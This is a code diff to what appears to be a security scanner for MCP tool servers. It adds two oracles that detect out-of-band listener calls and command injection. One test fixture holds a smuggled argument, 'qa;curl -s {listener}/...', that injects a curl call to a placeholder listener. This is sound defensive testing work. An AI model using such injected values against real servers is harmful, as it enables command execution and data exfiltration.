@@ -16,7 +16,7 @@ from fleet.oracles.agent.mcp_servers import CALL, at, definitions, exchange, ora
 from fleet.oracles.documents.json_schema import REQUIRED, misfits
 from fleet.oracles.model import Exchange, Facts, Observation, observed
 from fleet.oracles.web import traces
-from fleet.oracles.web.injections import COMMAND, KNOWN_FILES, PAIR, PRODUCT, computed
+from fleet.oracles.web.injections import COMMAND, KNOWN_FILES, PAIR, PRODUCT, RUN, computed, told_listener
 from fleet.oracles.web.variations import neutral
 from fleet.severity import Severity
 from fleet.text import line
@@ -129,6 +129,47 @@ def _computed(seen: Sequence[Exchange], form: re.Pattern[str]) -> tuple[McpInput
 def mcp_command(seen: Sequence[Exchange], _facts: Facts) -> Iterator[Observation]:
     if found := _computed(seen, COMMAND):
         yield found[0].observed(seen, f"a command in it prints {found[1]}", "mcp-command")
+
+
+def _hearing(*heard: str) -> tuple[Exchange, ...]:
+    at_ = "{listener}/qah0123456789ab"
+    return (_call({"text": "tides"}, map="qa"), _call({"text": "tides", "heard": list(heard)}, map=at_))
+
+
+@oracle(
+    id="mcp-listener",
+    says="a tool asks for no address of its own machine or network that its caller names",
+    severity=Severity.HIGH,
+    example=_hearing("qah0123456789ab"),
+    control=_hearing(),
+)
+def mcp_listener(seen: Sequence[Exchange], _facts: Facts) -> Iterator[Observation]:
+    if (found := _told(seen)) and not RUN.search(found.values[-1]):
+        yield found.observed(seen, "the server asks for an address sent there", "mcp-listener")
+
+
+@oracle(
+    id="mcp-listener-command",
+    says="a command in an argument is text and is not run, whatever of its output is shown",
+    severity=Severity.CRITICAL,
+    example=(
+        _call({"text": "tides"}, port="qa"),
+        _call({"text": "tides", "heard": ["qah0123456789ab"]}, port="qa;curl -s {listener}/qah0123456789ab;"),
+    ),
+    control=(
+        _call({"text": "tides"}, port="qa"),
+        _call({"text": "tides", "heard": []}, port="qa;curl -s {listener}/qah0123456789ab;"),
+    ),
+)
+def mcp_listener_command(seen: Sequence[Exchange], _facts: Facts) -> Iterator[Observation]:
+    if (found := _told(seen)) and RUN.search(found.values[-1]):
+        yield found.observed(seen, "a command in it, curl, is run", "mcp-listener-command")
+
+
+def _told(seen: Sequence[Exchange]) -> McpInput | None:
+    """The input whose last value alone named the listener, if it was asked."""
+    found = McpInput.of((seen[0], seen[-1])) if len(seen) > 1 else None
+    return found if found and told_listener(found.values[-1], seen[-1].result) else None
 
 
 @oracle(
